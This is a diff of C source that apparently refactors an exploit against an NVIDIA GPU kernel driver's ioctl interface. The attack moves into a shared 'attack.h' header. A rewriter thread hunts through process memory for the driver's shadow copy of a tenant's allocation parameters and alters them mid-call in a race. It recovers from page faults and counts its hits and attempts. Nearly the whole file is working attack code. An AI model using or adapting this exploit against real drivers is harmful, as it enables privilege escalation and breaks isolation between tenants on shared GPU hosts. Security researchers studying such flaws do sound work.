@@ -22,36 +22,14 @@
  * the rewriter's SIGSEGV/SIGBUS, a write refused or a page gone).
  */
 #include <pthread.h>
-#include <setjmp.h>
-#include <signal.h>
-#include <stdatomic.h>
-#include <stdint.h>
-#include <stdio.h>
 #include <stdlib.h>
-#include <string.h>
 #include <sys/ioctl.h>
-#include <time.h>
 
-#define NV_IOCTL_MAGIC		'F'
-#define NV_ESC_RM_FREE		0x29
-#define NV_ESC_RM_ALLOC		0x2B
-#define NV_ESC_RM_VID_HEAP	0x4A
+#include "attack.h"
+
 #define NV_ERR_NO_MEMORY	0x51
 #define HANDLE_PROVIDED		0x4000
-/* Largest anonymous mapping searched for the shadow (params at a page start). */
-#define MAX_SCAN		(64UL << 20)
-#define MAX_REGIONS		8
 #define MAX_HELD		4096
-
-struct nvos00 {
-	uint32_t h_root, h_parent, h_old, status;
-};
-
-struct nvos21 {
-	uint32_t h_root, h_parent, h_new, h_class;
-	uint64_t p_alloc_parms;
-	uint32_t params_size, status;
-};
 
 /* NVOS32 with its AllocSize member (184 bytes). */
 struct nvos32 {
@@ -77,63 +55,15 @@ static atomic_int called;	/* a call has been made: the shadow exists */
 static uint32_t client;		/* CLIENT */
 static uint32_t taken;		/* PARENT: a handle that exists */
 static atomic_ulong hits, faults;
-static char *regions[MAX_REGIONS];
-static atomic_int n_regions;
-static atomic_ulong found;	/* regions found, all told */
-/* A page found may be unmapped again (a shadow of one call): start over. */
-static __thread sigjmp_buf lost;
-static __thread volatile sig_atomic_t armed;
-
-static void on_fault(int sig)
-{
-	if (!armed) {
-		signal(sig, SIG_DFL);
-		raise(sig);
-		return;
-	}
-	siglongjmp(lost, 1);
-}
+static struct shadows sh;
 
 /*
- * Pages of writable mappings, but the kernel's ([stack], [vvar]...), that
- * begin as the tenant's params do
- * (hRoot, hObjectParent, then class 0x40 or function ALLOC_SIZE), not yet
- * known: the module's shadow. The tenant's own params are on its stack.
+ * hRoot, hObjectParent, then class 0x40 (NVOS21) or function ALLOC_SIZE
+ * (NVOS32): the params as the module copied them.
  */
-static void find_regions(void)
+static int is_params(volatile uint32_t *p)
 {
-	char line[512];
-	FILE *f = fopen("/proc/self/maps", "r");
-	int n = atomic_load(&n_regions);
-
-	if (!f)
-		return;
-	while (n < MAX_REGIONS && fgets(line, sizeof(line), f)) {
-		unsigned long lo, hi, off;
-		char perms[8];
-		int i, known, end = 0;
-
-		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &lo, &hi, perms, &end) < 3)
-			continue;
-		if (hi - lo > MAX_SCAN || perms[0] != 'r' || perms[1] != 'w' ||
-		    line[end] == '[')
-			continue;
-		for (off = lo; off < hi && n < MAX_REGIONS; off += 4096) {
-			volatile uint32_t *p = (volatile uint32_t *)off;
-
-			if (p[0] != client || p[1] != taken || (p[3] != 0x40 && p[2] != 2))
-				continue;
-			known = 0;
-			for (i = 0; i < n; i++)
-				known |= regions[i] == (char *)off;
-			if (!known) {
-				regions[n++] = (char *)off;
-				atomic_fetch_add(&found, 1);
-			}
-		}
-	}
-	fclose(f);
-	atomic_store(&n_regions, n);
+	return p[0] == client && p[1] == taken && (p[3] == 0x40 || p[2] == 2);
 }
 
 static void *rewriter(void *arg)
@@ -143,19 +73,19 @@ static void *rewriter(void *arg)
 	(void)arg;
 	if (sigsetjmp(lost, 1)) {
 		atomic_fetch_add(&faults, 1);
-		atomic_store(&n_regions, 0);
+		atomic_store(&sh.n, 0);
 	}
 	armed = 1;
 	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
-		int i, n = atomic_load_explicit(&n_regions, memory_order_relaxed);
+		int i, n = atomic_load_explicit(&sh.n, memory_order_relaxed);
 		int k = atomic_load_explicit(&kind, memory_order_relaxed);
 
 		if (!atomic_load_explicit(&called, memory_order_relaxed))
 			continue;
 		if (!(++scans & 0xfffff) || !n)
-			find_regions();
+			find_shadows(&sh, is_params, NULL);
 		for (i = 0; i < n; i++) {
-			volatile uint32_t *p = (volatile uint32_t *)regions[i];
+			volatile uint32_t *p = (volatile uint32_t *)sh.page[i];
 			unsigned int st = k == 21 ? 7 : 5, h = k == 21 ? 2 : 11;
 
 			if (p[st] == 0) {
@@ -167,14 +97,6 @@ static void *rewriter(void *arg)
 	}
 	armed = 0;
 	return NULL;
-}
-
-static double now(void)
-{
-	struct timespec ts;
-
-	clock_gettime(CLOCK_MONOTONIC, &ts);
-	return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
 int main(int argc, char **argv)
@@ -203,8 +125,7 @@ int main(int argc, char **argv)
 	want = strtoul(argv[7], NULL, 0);
 
 	client = strtoul(argv[2], NULL, 0);
-	signal(SIGSEGV, on_fault);
-	signal(SIGBUS, on_fault);
+	catch_faults();
 	if (pthread_create(&t, NULL, rewriter, NULL))
 		return 1;
 	start = now();
@@ -268,7 +189,7 @@ int main(int argc, char **argv)
 	atomic_store(&stop, 1);
 	pthread_join(t, NULL);
 	printf("attempts %lu ok %lu failed %lu hits %lu found %lu faults %lu\n", attempts, ok,
-	       failed, (unsigned long)atomic_load(&hits), (unsigned long)atomic_load(&found),
+	       failed, (unsigned long)atomic_load(&hits), (unsigned long)atomic_load(&sh.found),
 	       (unsigned long)atomic_load(&faults));
 	return 0;
 }
